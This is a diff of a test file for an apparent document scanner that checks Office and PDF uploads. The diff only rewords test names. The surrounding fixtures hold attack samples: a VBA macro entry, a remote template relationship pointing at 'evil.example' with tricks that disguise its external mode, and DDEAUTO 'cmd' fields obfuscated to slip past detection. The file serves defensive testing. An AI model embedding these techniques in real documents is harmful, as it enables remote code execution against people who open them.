@@ -110,7 +110,7 @@ test.each<[string, string, Buffer]>([
   expect(await lookIntoDocument(name, content)).toBeNull();
 });
 
-describe("documents that are refused for what is in them", () => {
+describe("documents that are refused for their content", () => {
   test.each<[string, string, Buffer]>([
     ["macros", "a.docx", office({ name: "word/vbaProject.bin", content: "x" })],
     ["macros in other letters", "a.xlsx", office({ name: "XL\\VBAPROJECT.BIN", content: "x" })],
@@ -233,7 +233,7 @@ describe("documents that are refused for what is in them", () => {
     ["in another kind of quotes", `Id=' TargetMode="Internal" '`],
     ["in letters by number", 'Id="&#34; TargetMode=&#34;Internal&#34; x=&#34;"'],
   ])(
-    "a document that loads its template from elsewhere is refused, though another attribute says that it does not, %s",
+    "a document that loads its template from elsewhere is refused, although another attribute denies that %s",
     async (_how, hidden) => {
       const content = `<Relationships><Relationship ${hidden} Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
       const file = office({ name: "word/_rels/settings.xml.rels", content });
@@ -333,11 +333,11 @@ test.each([
   ["behind the sign that ends an element", '<w:instrText a="/>">DD<!-- -->EAUTO cmd</w:instrText>'],
   ["by a word of its own", '<!DOCTYPE w [<!ENTITY d "DDE">]><w:instrText>&d;AUTO cmd</w:instrText>'],
   ["by a word in a simple field", '<!DOCTYPE w [<!ENTITY d "DDE">]><w:fldSimple w:instr="&d;AUTO cmd"/>'],
-])("the rep is asked about a field that is written %s", async (_how, xml) => {
+])("the rep is asked about a document with a field that is written %s", async (_how, xml) => {
   expect(await lookIntoDocument("a.docx", word(xml))).toEqual(asked("unseen"));
 });
 
-test("any bytes behind a beginning that fits are opened, asked about or refused without an exception", async () => {
+test("a document with any bytes behind a valid beginning is opened, asked about or refused without an exception", async () => {
   const beginnings = {
     "a.docx": bytes("PK\x03\x04[Content_Types].xml"),
     "a.pdf": bytes("%PDF-1.7 /ObjStm obj /FlateDecode stream\n"),
